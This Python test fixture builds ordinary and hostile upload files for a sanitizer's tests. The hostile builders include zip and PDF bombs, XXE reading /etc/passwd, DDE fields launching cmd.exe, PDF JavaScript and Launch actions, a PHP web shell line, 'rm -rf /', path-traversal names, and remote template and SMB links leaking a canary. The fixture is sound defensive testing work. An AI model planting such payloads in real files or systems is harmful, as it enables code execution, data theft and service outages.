# ruff: noqa: E501 - one file a line reads better than six
"""Files of the upload tests, all made here: ordinary ones that must keep working, and hostile ones."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import openpyxl
import pikepdf
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from PIL import Image
from PIL.PngImagePlugin import PngInfo

CANARY = "CANARY-ana-mora-9.9281"  # stands for a name or a place that must not leave with the copy
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
GPS = {0x8825: {1: "N", 2: (9.0, 55.0, 40.0), 3: "W", 4: (84.0, 4.0, 40.0)}}


@dataclass(frozen=True)
class Sample:
    name: str
    make: Callable[[], bytes]


# --- builders ------------------------------------------------------------------------------------


def pack(members: dict[str, bytes | str], stored: tuple[str, ...] = ()) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(name, content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def relationships(*rows: tuple[str, str, str]) -> str:
    """Rows of (id, last part of the type, target); a target with a colon is external."""
    items = ""
    for key, kind, target in rows:
        mode = ' TargetMode="External"' if ":" in target or target.startswith("\\") else ""
        kind = kind if ":" in kind else f"{REL}/{kind}"
        items += f'<Relationship Id="{key}" Type="{kind}" Target="{target}"{mode}/>'
    return f'{HEAD}<Relationships xmlns="{PACKAGE_REL}">{items}</Relationships>'


def docx_members(
    body: str = "<w:p><w:r><w:t>Informe</w:t></w:r></w:p>", **extra: str | bytes
) -> dict[str, bytes | str]:
    """A minimal document; keyword `rels` replaces the document's relationships, `types` is added to the types."""
    types = str(extra.pop("types", ""))
    rels = str(extra.pop("rels", relationships()))
    root = str(extra.pop("root", relationships(("r1", "officeDocument", "word/document.xml"))))
    return {
        "[Content_Types].xml": f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/>{types}</Types>',
        "_rels/.rels": root,
        "word/document.xml": f'{HEAD}<w:document {W} xmlns:r="{REL}"><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": rels,
    }


def docx(
    body: str = "<w:p><w:r><w:t>Informe</w:t></w:r></w:p>", parts: dict[str, bytes | str] | None = None, **extra: str
) -> bytes:
    return pack(docx_members(body, **extra) | (parts or {}))


def field(*codes: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def xlsx(
    change: Callable[[openpyxl.Workbook], object] | None = None, parts: dict[str, bytes | str] | None = None
) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Año", "Casos"])
    book.active.append([2013, 14])
    if change:
        change(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return repack(buffer.getvalue(), parts) if parts else buffer.getvalue()


def members_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def repack(content: bytes, parts: dict[str, bytes | str]) -> bytes:
    return pack({**members_of(content), **parts})


def patch(content: bytes, name: str, old: str, new: str) -> bytes:
    """A package in which a part was changed; the text must be there."""
    text = members_of(content)[name].decode()
    assert old in text, (name, text[:300])
    return repack(content, {name: text.replace(old, new)})


def odf(
    kind: str = "text", content: str = "", parts: dict[str, bytes | str] | None = None, manifest: str = ""
) -> bytes:
    names = ["office", "text", "table", "script", "xlink", "dc", "meta", "draw", "config", "manifest"]
    spaces = " ".join(
        f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"'
        for n in names
        if n not in {"xlink", "dc", "manifest"}
    )
    spaces += ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    mime = "application/vnd.oasis.opendocument." + kind
    inner = {"text": "office:text", "spreadsheet": "office:spreadsheet"}[kind]
    body = content if content.startswith("<office:") else f"<office:body><{inner}>{content}</{inner}></office:body>"
    members: dict[str, bytes | str] = {
        "mimetype": mime,
        "content.xml": f"{HEAD}<office:document-content {spaces}>{body}</office:document-content>",
        "meta.xml": f"{HEAD}<office:document-meta {spaces}><office:meta><dc:creator>{CANARY}</dc:creator>"
        "</office:meta></office:document-meta>",
        "Thumbnails/thumbnail.png": png(exif=True),
        "META-INF/manifest.xml": f'{HEAD}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        f'<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>{manifest}</manifest:manifest>',
    }
    return pack(members | (parts or {}), stored=("mimetype",))


def _picture(size: tuple[int, int] = (320, 200), mode: str = "RGB") -> Image.Image:
    gradient = Image.linear_gradient("L").resize(size)
    return gradient.convert(mode)


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x013B], exif[0x010F], exif[0x0112] = CANARY, "Camera of " + CANARY, 6
    exif.get_ifd(0x8825).update(GPS[0x8825])
    return exif


def jpeg(mode: str = "RGB", exif: bool = True, **options: object) -> bytes:
    buffer = io.BytesIO()
    extra = {"exif": _exif()} if exif else {}
    _picture(mode=mode).save(buffer, "JPEG", comment=CANARY.encode(), **extra, **options)
    return buffer.getvalue()


def png(mode: str = "RGB", exif: bool = True) -> bytes:
    buffer, text = io.BytesIO(), PngInfo()
    text.add_text("Author", CANARY)
    text.add_itxt("XML:com.adobe.xmp", f"<x>{CANARY}</x>")
    extra = {"exif": _exif()} if exif else {}
    _picture(mode=mode).save(buffer, "PNG", pnginfo=text, **extra)
    return buffer.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], object] | None = None, **save: object) -> bytes:
    """Two pages with every kind of metadata."""
    document = pikepdf.new()
    for _ in range(2):
        page = document.add_blank_page(page_size=(595, 842))
        page.obj["/Contents"] = document.make_stream(b"BT /F1 12 Tf 72 720 Td (Informe) Tj ET")
        page.obj["/PieceInfo"] = pikepdf.Dictionary(Author=pikepdf.String(CANARY))
    document.docinfo["/Author"] = CANARY
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = [CANARY]
    if change:
        change(document)
    buffer = io.BytesIO()
    document.save(buffer, **save)
    return buffer.getvalue()


def pdf_with(**entries: object) -> bytes:
    """A PDF whose catalogue has these entries."""

    def change(document: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            document.Root[f"/{key}"] = value

    return pdf(change)


def action(kind: str, **entries: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **entries)


def annotated(**entries: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[10, 10, 50, 50], **entries)
        document.pages[0].obj["/Annots"] = pikepdf.Array([document.make_indirect(note)])

    return pdf(change)


def pdf_with_photo(document: pikepdf.Pdf) -> None:
    image = document.make_stream(jpeg())
    image.update({"/Type": pikepdf.Name.XObject, "/Subtype": pikepdf.Name.Image, "/Width": 320, "/Height": 200,
                  "/ColorSpace": pikepdf.Name.DeviceRGB, "/BitsPerComponent": 8, "/Filter": pikepdf.Name.DCTDecode})  # fmt: skip
    image.write(jpeg(), filter=pikepdf.Name.DCTDecode)
    document.pages[0].obj["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))


# --- ordinary files ------------------------------------------------------------------------------


def _chart(book: openpyxl.Workbook) -> None:
    chart = BarChart()
    chart.add_data(Reference(book.active, min_col=2, min_row=1, max_row=2), titles_from_data=True)
    book.active.add_chart(chart, "E2")


def _comment(book: openpyxl.Workbook) -> None:
    book.active["A1"].comment = Comment(f"Interno de {CANARY}", CANARY)
    book.properties.creator = book.properties.lastModifiedBy = CANARY


def _formulas(book: openpyxl.Workbook) -> None:
    book.active["C2"] = "=SUM(A2:B2)"
    book.active["C3"] = '=IF(B2>10,"más | menos","")'
    book.active["C4"] = '=HYPERLINK("https://www.oas.org","OEA")'
    book.active["A5"].hyperlink = "https://www.oas.org/es"


def _sheets(book: openpyxl.Workbook) -> None:
    for number in range(5):
        sheet = book.create_sheet(f"Hoja {number}")
        for row in range(200):
            sheet.append([row, "texto", row * 1.5])


REVISED = (
    f'<w:p w:rsidR="00AB12CD"><w:r><w:t>Se </w:t></w:r><w:ins w:id="1" w:author="{CANARY}" w:date="2014-03-01T00:00:00Z">'
    f'<w:r><w:t>aprobó</w:t></w:r></w:ins><w:del w:id="2" w:author="{CANARY}"><w:r><w:delText>{CANARY}</w:delText></w:r></w:del>'
    '<w:commentRangeStart w:id="0"/><w:r><w:t> la ley</w:t></w:r><w:commentRangeEnd w:id="0"/>'
    '<w:r><w:commentReference w:id="0"/></w:r></w:p>'
)  # fmt: skip


def full_docx() -> bytes:
    """With properties, thumbnail, comments, tracked changes, a photo, a link and a template's path."""
    parts: dict[str, bytes | str] = {
        "docProps/core.xml": f"{HEAD}<p><creator>{CANARY}</creator></p>",
        "docProps/app.xml": f"{HEAD}<p><Company>{CANARY}</Company></p>",
        "docProps/thumbnail.jpeg": jpeg(),
        "word/comments.xml": f'{HEAD}<w:comments {W}><w:comment w:id="0" w:author="{CANARY}"/></w:comments>',
        "word/settings.xml": f'{HEAD}<w:settings {W} xmlns:r="{REL}"><w:attachedTemplate r:id="t1"/>'
        f'<w:rsids><w:rsid w:val="00AB12CD"/></w:rsids></w:settings>',
        "word/_rels/settings.xml.rels": relationships(
            ("t1", "attachedTemplate", f"file:///C:/Users/{CANARY}/Normal.dotm")
        ),
        "word/media/image1.jpeg": jpeg(),
        "word/orphan.xml": f"{HEAD}<secret>{CANARY}</secret>",
    }
    root = relationships(
        ("r1", "officeDocument", "word/document.xml"),
        ("r2", f"{PACKAGE_REL}/metadata/core-properties", "docProps/core.xml"),
        ("r3", "extended-properties", "docProps/app.xml"),
        ("r4", f"{PACKAGE_REL}/metadata/thumbnail", "docProps/thumbnail.jpeg"),
    )
    rels = relationships(
        ("c1", "comments", "comments.xml"),
        ("s1", "settings", "settings.xml"),
        ("i1", "image", "media/image1.jpeg"),
        ("h1", "hyperlink", "https://www.oas.org/"),
    )
    body = REVISED + '<w:p><w:hyperlink r:id="h1"><w:r><w:t>OEA</w:t></w:r></w:hyperlink></w:p>'
    types = '<Default Extension="jpeg" ContentType="image/jpeg"/>' + "".join(
        f'<Override PartName="/{name}" ContentType="application/xml"/>' for name in parts if name.endswith(".xml")
    )
    return docx(body, parts, root=root, rels=rels, types=types)


ODT_REVISED = (
    f"<text:tracked-changes><text:changed-region><text:deletion><office:change-info><dc:creator>{CANARY}</dc:creator>"
    f"</office:change-info><text:p>{CANARY}</text:p></text:deletion></text:changed-region></text:tracked-changes>"
    f"<text:p>Se aprobó<text:change/> la ley<office:annotation><dc:creator>{CANARY}</dc:creator></office:annotation>"
    '<text:a xlink:href="https://www.oas.org">OEA</text:a></text:p>'
)

GOOD = [
    Sample("informe.pdf", pdf),
    Sample("foto dentro.pdf", lambda: pdf(pdf_with_photo)),
    Sample("abre en la página.pdf", lambda: pdf(lambda d: d.Root.update({"/OpenAction": pikepdf.Array([d.pages[0].obj, pikepdf.Name.Fit])}))),
    Sample("con notas.pdf", lambda: annotated(Subtype=pikepdf.Name.Text, T=CANARY, Contents=CANARY)),
    Sample("con enlace.pdf", lambda: annotated(Subtype=pikepdf.Name.Link, A=action("URI", URI="https://www.oas.org"))),
    Sample("sin permiso de imprimir.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="x", user=""))),
    Sample("lineal.pdf", lambda: pdf(linearize=True)),
    Sample("firmado.pdf", lambda: pdf(lambda d: d.Root.update({"/AcroForm": pikepdf.Dictionary(SigFlags=3, Fields=pikepdf.Array([d.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Sig, T="Firma", V=pikepdf.Dictionary(Type=pikepdf.Name.Sig, Name=CANARY)))]))}))),
    Sample("foto.jpg", jpeg),
    Sample("gris.JPEG", lambda: jpeg("L")),
    Sample("imprenta.jpeg", lambda: jpeg("CMYK")),
    Sample("progresiva.jpg", lambda: jpeg(progressive=True)),
    Sample("captura.png", png),
    Sample("transparente.png", lambda: png("RGBA")),
    Sample("paleta.png", lambda: png("P")),
    Sample("ley.docx", docx),
    Sample("completo.docx", full_docx),
    Sample("datos.xlsx", xlsx),
    Sample("gráfico.xlsx", lambda: xlsx(_chart)),
    Sample("comentado.xlsx", lambda: xlsx(_comment)),
    Sample("fórmulas.xlsx", lambda: xlsx(_formulas)),
    Sample("hojas.xlsx", lambda: xlsx(_sheets)),
    Sample("acta.odt", lambda: odf(content="<text:p>Acta</text:p>")),
    Sample("revisada.odt", lambda: odf(content=ODT_REVISED)),
    Sample("cuadro.ods", lambda: odf("spreadsheet", '<table:table><table:table-row/></table:table>')),
    Sample("notas.txt", lambda: "Acción número 1: capacitación, São Paulo, Québec".encode()),
    Sample("antiguo.txt", lambda: "Acción número 1".encode("cp1252")),
    Sample("unicode.txt", lambda: "Acción número 1".encode("utf-16")),
    Sample("cuadro.csv", lambda: "Año;Casos;Cambio\r\n2013;14;-3,5\r\n".encode("utf-8-sig")),
    Sample("coma.csv", lambda: b"year,cases\n2013,14\n"),
]  # fmt: skip


# --- hostile files -------------------------------------------------------------------------------


def bomb(members: int = 3) -> bytes:
    """Ten gigabytes of zeros in ten megabytes, made without ever holding or packing them: one packed block
    of 64 MB, repeated. As the XML of a document."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(64 * 1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)
    times = 53
    content = block * times + packer.flush()
    size = 64 * 1024 * 1024 * times
    return _raw_zip([(f"word/document{n or ''}.xml", content, size) for n in range(members)])


def _raw_zip(rows: list[tuple[str, bytes, int]], **flags: int) -> bytes:
    """A zip written by hand: (name, deflated content, claimed size)."""
    body, directory = b"", b""
    for name, content, size in rows:
        raw = name.encode()
        head = struct.pack("<HHHHHIIIHH", 20, flags.get("bits", 0), 8, 0, 33, 0, len(content), size, len(raw), 0)
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + raw
        body += b"PK\x03\x04" + head + raw + content
    count = len(rows)
    return body + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(body), 0)


def deflated(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def link_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, content in docx_members().items():
            package.writestr(name, content)
        info = zipfile.ZipInfo("word/media/image1.png")
        info.external_attr = 0o120777 << 16
        package.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def many_members() -> bytes:
    return pack({**docx_members(), **{f"word/media/{n}.xml": "<x/>" for n in range(3000)}})


def png_header(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    data = zlib.compress(b"\x00" * 100)
    rows = struct.pack(">I", len(data)) + b"IDAT" + data + struct.pack(">I", zlib.crc32(b"IDAT" + data))
    return b"\x89PNG\r\n\x1a\n" + chunk + rows + b"\x00\x00\x00\x00IEND\xaeB`\x82"


def jpeg_header(width: int, height: int) -> bytes:
    plain = jpeg(exif=False)
    at = plain.index(b"\xff\xc0") + 5
    return plain[:at] + struct.pack(">HH", height, width) + plain[at + 4 :]


def png_text_bomb() -> bytes:
    data = b"Comment\x00\x00" + zlib.compress(bytes(80 * 1024 * 1024), 9)
    chunk = struct.pack(">I", len(data)) + b"zTXt" + data + struct.pack(">I", zlib.crc32(b"zTXt" + data))
    plain = png(exif=False)
    return plain[:33] + chunk + plain[33:]


def pdf_bomb() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        packed = zlib.compress(bytes(300 * 1024 * 1024), 9)
        stream = document.make_stream(b"")
        stream.write(packed, filter=pikepdf.Name.FlateDecode)
        document.pages[0].obj["/Contents"] = stream

    return pdf(change)


def pdf_double_bomb() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        packed = zlib.compress(zlib.compress(bytes(300 * 1024 * 1024), 9), 9)
        stream = document.make_stream(b"")
        stream.write(packed, filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode]))
        document.pages[0].obj["/Contents"] = stream

    return pdf(change)


def pdf_huge_image() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        pdf_with_photo(document)
        image = document.pages[0].obj.Resources.XObject.Im0
        image["/Width"], image["/Height"] = 50_000, 50_000

    return pdf(change)


def deep_pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + b"[" * 100_000 + b"\nendobj\ntrailer<</Root 1 0 R>>"


def pdf_attachment() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["nota.exe"] = b"MZ" + bytes(100)

    return pdf(change)


def pdf_xfa() -> bytes:
    return pdf_with(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("<xdp><script/></xdp>"), Fields=[]))


def pdf_names(**entries: object) -> bytes:
    return pdf_with(Names=pikepdf.Dictionary(**entries))


ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
XXE = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
VBA = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
ZIP = b"PK\x03\x04"


def with_document(document: str) -> bytes:
    return pack({**docx_members(), "word/document.xml": document})


def with_rel(kind: str, target: str, part: tuple[str, bytes | str] | None = None) -> bytes:
    return docx(parts=dict([part]) if part else {}, rels=relationships(("x1", kind, target)))


def sheet_formula(formula: str) -> bytes:
    return patch(xlsx(), "xl/worksheets/sheet1.xml", "<v>2013</v>", f"<f>{formula}</f><v>2013</v>")


def workbook_with(text: str) -> bytes:
    return patch(xlsx(), "xl/workbook.xml", "</workbook>", f"{text}</workbook>")


def svg_in_docx(svg: bytes) -> bytes:
    return with_rel("image", "media/image1.svg", ("word/media/image1.svg", svg))


_MAKERS = {"pdf": pdf, "docx": docx, "xlsx": xlsx, "odt": odf, "jpg": jpeg, "png": png}


def _mislabelled() -> Iterator[Sample]:
    """What the name says is not what the file is."""
    for extension, content in {
        "pdf": HTML, "docx": HTML, "xlsx": SVG, "odt": HTML, "jpg": SVG, "png": HTML, "txt": HTML, "csv": SVG,
    }.items():  # fmt: skip
        yield Sample(f"markup.{extension}", lambda content=content: content)
    for extension in ("pdf", "docx", "jpg", "txt", "csv"):
        yield Sample(f"program.{extension}", lambda: b"MZ\x90\x00" + bytes(2000))
    for extension in (
        "exe",
        "html",
        "svg",
        "docm",
        "xlsm",
        "xlsb",
        "doc",
        "zip",
        "js",
        "hta",
        "lnk",
        "iso",
        "pptx",
        "rtf",
    ):
        yield Sample(f"informe.pdf.{extension}", pdf)
    for extension, make in _MAKERS.items():
        other = "png" if extension != "png" else "pdf"
        yield Sample(f"mislabelled {extension}.{other}", make)
    yield Sample("word.xlsx", docx)
    yield Sample("sheet.docx", xlsx)
    yield Sample("sheet.odt", lambda: odf("spreadsheet"))
    yield Sample("noextension", pdf)
    yield Sample("empty.pdf", lambda: b"")
    yield Sample("empty.txt", lambda: b" \n\r\n")
    yield Sample("null.txt", lambda: b"hola\x00mundo")
    yield Sample("null.csv", lambda: b"a,b\n\x00,1\n")
    yield Sample("binary.txt", lambda: bytes(range(256)))
    yield Sample("script.txt", lambda: b"#!/bin/sh\nrm -rf /\n")
    yield Sample("php.txt", lambda: b"<?php system($_GET['c']); ?>")
    yield Sample("eicar.txt", lambda: EICAR)
    yield Sample("eicar.csv", lambda: EICAR + b"\n")
    yield Sample("eicar.pdf", lambda: pdf() + EICAR)
    yield Sample("too large.pdf", lambda: pdf() + bytes(11 * 1024 * 1024))


def _names() -> Iterator[Sample]:
    """Names that lie, turn the reading direction or leave their folder."""
    for name in ("../../etc/passwd.pdf", "..\\..\\boot.pdf", "informe\u202efdp.exe", "x" * 400 + ".pdf", "con.pdf",
                 "a\r\nX-Header: 1.pdf", 'comillas".pdf', "\u200b\u200e.pdf", "nul\x00.exe.pdf", "e" + "\u0301" * 80 + ".pdf"):  # fmt: skip
        yield Sample(name, pdf)


def _broken() -> Iterator[Sample]:
    """Cut off, and noise behind a good beginning."""
    for extension, make in _MAKERS.items():
        yield Sample(f"half.{extension}", lambda make=make: make()[: len(make()) // 2])
        yield Sample(f"head.{extension}", lambda make=make: make()[:12])
        yield Sample(f"noise.{extension}", lambda make=make: make()[:20] + bytes(range(256)) * 40)


def _polyglots() -> Iterator[Sample]:
    """Two formats in one, or something hung on."""
    for extension, make in _MAKERS.items():
        yield Sample(f"tail.{extension}", lambda make=make: make() + HTML + CANARY.encode())
        yield Sample(f"zip tail.{extension}", lambda make=make: make() + pack({"x.js": f"alert('{CANARY}')"}))
    yield Sample("before.pdf", lambda: HTML + pdf())
    yield Sample("gifar.jpg", lambda: b"GIF89a" + jpeg())


def _pdfs() -> Iterator[Sample]:
    """PDF that acts, fetches, carries or swells."""
    script = {"JS": pikepdf.String("app.alert(1)")}
    yield Sample("open script.pdf", lambda: pdf_with(OpenAction=action("JavaScript", **script)))
    yield Sample(
        "names script.pdf",
        lambda: pdf_names(JavaScript=pikepdf.Dictionary(Names=["a", action("JavaScript", **script)])),
    )
    yield Sample(
        "page script.pdf",
        lambda: pdf(lambda d: d.pages[0].obj.update({"/AA": pikepdf.Dictionary(O=action("JavaScript", **script))})),
    )
    yield Sample(
        "nested script.pdf",
        lambda: annotated(
            Subtype=pikepdf.Name.Link, A=action("URI", URI="https://oas.org", Next=action("JavaScript", **script))
        ),
    )
    yield Sample(
        "hidden script.pdf",
        lambda: pdf(
            lambda d: (
                d.make_indirect(pikepdf.Dictionary(X=action("JavaScript", **script)))
                and d.Root.update({"/X": d.make_indirect(action("JavaScript", **script))})
            ),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
    )
    for kind in ("Launch", "ImportData", "SubmitForm", "GoToE", "GoToR", "Rendition", "Movie"):
        yield Sample(
            f"action {kind}.pdf", lambda kind=kind: pdf_with(OpenAction=action(kind, F=pikepdf.String("cmd.exe")))
        )
    for kind in ("FileAttachment", "RichMedia", "Screen", "Movie", "3D", "Sound"):
        yield Sample(f"note {kind}.pdf", lambda kind=kind: annotated(Subtype=pikepdf.Name(f"/{kind}")))
    yield Sample(
        "file uri.pdf", lambda: annotated(Subtype=pikepdf.Name.Link, A=action("URI", URI=f"file:///C:/{CANARY}"))
    )
    yield Sample(
        "js uri.pdf", lambda: annotated(Subtype=pikepdf.Name.Link, A=action("URI", URI=f"javascript:{CANARY}"))
    )
    yield Sample("attachment.pdf", pdf_attachment)
    yield Sample("xfa.pdf", pdf_xfa)
    yield Sample("portfolio.pdf", lambda: pdf_with(Collection=pikepdf.Dictionary()))
    yield Sample("password.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")))
    yield Sample("bomb.pdf", pdf_bomb)
    yield Sample("double bomb.pdf", pdf_double_bomb)
    yield Sample("pixels.pdf", pdf_huge_image)
    yield Sample("deep.pdf", deep_pdf)
    yield Sample("no page.pdf", lambda: pdf(lambda d: [d.pages.__delitem__(0) for _ in range(2)]))


def _pictures() -> Iterator[Sample]:
    """Pictures that swell."""
    yield Sample("flood.png", lambda: png_header(50_000, 50_000))
    yield Sample("flood.jpg", lambda: jpeg_header(50_000, 50_000))
    yield Sample("short rows.png", lambda: png_header(6_000, 6_000))
    yield Sample("text bomb.png", png_text_bomb)


def _packages() -> Iterator[Sample]:
    """Zip packages, whatever is in them."""
    yield Sample("bomb.docx", bomb)
    yield Sample("lying bomb.docx", lambda: _raw_zip([("word/document.xml", deflated(bytes(50_000_000)), 1000)]))
    yield Sample("ratio.docx", lambda: docx(parts={"word/a.xml": b"<a>" + b" " * 40_000_000 + b"</a>"}))
    yield Sample("many.docx", many_members)
    yield Sample("twice.docx", lambda: _raw_zip([("word/document.xml", deflated(b"<a/>"), 4)] * 2))
    for number, name in enumerate(
        ("../../evil.xml", "/etc/evil.xml", "C:/evil.xml", "word\\..\\evil.xml", "a\x00.xml", "w" * 300 + ".xml")
    ):
        yield Sample(f"slip {number}.docx", lambda name=name: _raw_zip([(name, deflated(b"<a/>"), 4)]))
    yield Sample("slip odf.odt", lambda: odf(parts={"../evil.xml": "<a/>"}))
    yield Sample("symlink.docx", link_zip)
    yield Sample("locked.docx", lambda: _raw_zip([("word/document.xml", deflated(b"<a/>"), 4)], bits=1))
    yield Sample("nested zip.docx", lambda: with_rel("image", "media/a.png", ("word/media/a.png", pack({"x": "y"}))))
    yield Sample(
        "program inside.docx", lambda: with_rel("image", "media/a.png", ("word/media/a.png", b"MZ" + bytes(50)))
    )
    yield Sample("bare.docx", lambda: pack({"readme.txt": "hola"}))
    yield Sample(
        "ole.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le")
    )
    yield Sample("legacy.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))


def _documents() -> Iterator[Sample]:
    """Word documents."""
    yield Sample(
        "xxe.docx", lambda: with_document(f"{HEAD}{XXE}<w:document {W}><w:body><w:p>&x;</w:p></w:body></w:document>")
    )
    yield Sample("xxe rels.docx", lambda: docx(rels=f"{HEAD}{XXE}<Relationships/>"))
    yield Sample(
        "xxe utf16.docx",
        lambda: pack(
            {
                **docx_members(),
                "word/document.xml": f'<?xml version="1.0" encoding="UTF-16"?>{XXE}<w:document {W}/>'.encode("utf-16"),
            }
        ),
    )
    yield Sample("entities.docx", lambda: with_document(f"{HEAD}{ENTITIES}<w:document {W}>&j;</w:document>"))
    yield Sample(
        "entities types.docx",
        lambda: pack({**docx_members(), "[Content_Types].xml": f"{HEAD}{ENTITIES}<Types>&j;</Types>"}),
    )
    yield Sample(
        "xinclude.docx",
        lambda: docx('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    )
    yield Sample("macro.docx", lambda: docx(parts=VBA, rels=relationships(("v1", "vbaProject", "vbaProject.bin"))))
    yield Sample("renamed docm.docx", lambda: patch(docx(), "[Content_Types].xml", DOCX_MAIN, MACRO_TYPE))
    yield Sample("unlisted macro.docx", lambda: docx(parts=VBA))
    yield Sample("odd macro.docx", lambda: with_rel("vbaProject", "x.dat", ("word/x.dat", b"Attribut")))
    yield Sample("template.docx", lambda: with_rel("attachedTemplate", "https://example.org/evil.dotm"))
    yield Sample("remote picture.docx", lambda: with_rel("image", f"https://example.org/{CANARY}.png"))
    yield Sample("smb picture.docx", lambda: with_rel("image", "\\\\198.51.100.1\\share\\a.png"))
    yield Sample("remote frame.docx", lambda: with_rel("frame", "https://example.org/"))
    yield Sample(
        "remote ole.docx", lambda: with_rel("oleObject", "mhtml:https://example.org/x!x-usc:https://example.org/x")
    )
    yield Sample(
        "ole object.docx",
        lambda: with_rel("oleObject", "embeddings/o.bin", ("word/embeddings/o.bin", b"\xd0\xcf\x11\xe0" + bytes(90))),
    )
    yield Sample("chunk.docx", lambda: with_rel("aFChunk", "a.html", ("word/a.html", HTML)))
    yield Sample(
        "file link.docx",
        lambda: docx(
            '<w:p><w:hyperlink r:id="x1"/></w:p>', rels=relationships(("x1", "hyperlink", f"file:///{CANARY}"))
        ),
    )
    yield Sample(
        "js link.docx",
        lambda: docx(
            '<w:p><w:hyperlink r:id="x1"/></w:p>', rels=relationships(("x1", "hyperlink", f"javascript:{CANARY}"))
        ),
    )
    yield Sample("dde.docx", lambda: docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')))
    yield Sample("dde cut.docx", lambda: docx(field("DD", "EAU", 'TO cmd "/k calc"')))
    yield Sample("dde quote.docx", lambda: docx(field("QUOTE 68 68 69 65 85 84 79 32")))
    yield Sample("dde simple.docx", lambda: docx('<w:fldSimple w:instr="DDE cmd calc"/>'))
    yield Sample("include.docx", lambda: docx(field('INCLUDEPICTURE "https://example.org/a.png" \\d')))
    yield Sample("include text.docx", lambda: docx(field('INCLUDETEXT "\\\\\\\\198.51.100.1\\\\a"')))
    yield Sample("svg script.docx", lambda: svg_in_docx(SVG))
